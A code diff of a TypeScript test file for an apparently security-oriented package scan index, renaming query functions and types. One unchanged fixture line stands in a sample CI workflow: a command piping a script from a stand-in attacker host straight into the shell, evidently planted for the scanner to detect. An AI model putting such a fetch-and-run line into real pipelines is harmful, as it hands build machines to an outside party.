@@ -5,7 +5,7 @@ import { withServer } from '../../../../../tests/setup/app.ts';
 import { scanResult } from '../../../../../tests/world/triage.ts';
 import { systemActor } from '../audit/index.ts';
 import { findOrCreateLocalWorkspace } from '../workspaces/index.ts';
-import { indexScan, lookUp, type Question, withPlaces } from './index.ts';
+import { type ComponentQuery, findComponents, indexScan, withOccurrences } from './index.ts';
 
 const server = withServer();
 const ctxOf = () => server.current.assembly.ctx;
@@ -38,7 +38,7 @@ const shop = {
   '.github/workflows/ci.yml': 'steps:\n  - run: curl https://drop.evil.example/x.sh | sh\n',
 };
 
-const question = (changes: Partial<Question> = {}): Question => ({
+const question = (changes: Partial<ComponentQuery> = {}): ComponentQuery => ({
   package: 'lodash',
   ecosystem: null,
   indicators: [],
@@ -69,10 +69,10 @@ async function scanned(files: Record<string, string>, completedAt: string, into 
   return indexScan(ctxOf(), organizationId, completed, about);
 }
 
-async function ask(changes: Partial<Question> = {}, organization = organizationId) {
-  const [answer] = await lookUp(ctxOf(), organization, [question(changes)]);
+async function ask(changes: Partial<ComponentQuery> = {}, organization = organizationId) {
+  const [answer] = await findComponents(ctxOf(), organization, [question(changes)]);
   if (answer === undefined) throw new Error('a question without an answer');
-  return { ...answer, workspaces: await withPlaces(ctxOf(), organization, answer.workspaces) };
+  return { ...answer, workspaces: await withOccurrences(ctxOf(), organization, answer.workspaces) };
 }
 
 beforeAll(async () => {
@@ -117,13 +117,13 @@ describe('a package that is asked for', () => {
 
   test('among many is answered as if it had been alone', async () => {
     const packages = ['qs', 'lodash', 'nothing'];
-    const together = await lookUp(
+    const together = await findComponents(
       ctxOf(),
       organizationId,
       packages.map((name) => question({ package: name })),
     );
     const alone = await Promise.all(
-      packages.map((name) => lookUp(ctxOf(), organizationId, [question({ package: name })])),
+      packages.map((name) => findComponents(ctxOf(), organizationId, [question({ package: name })])),
     );
     expect(together).toEqual(alone.flat());
   });
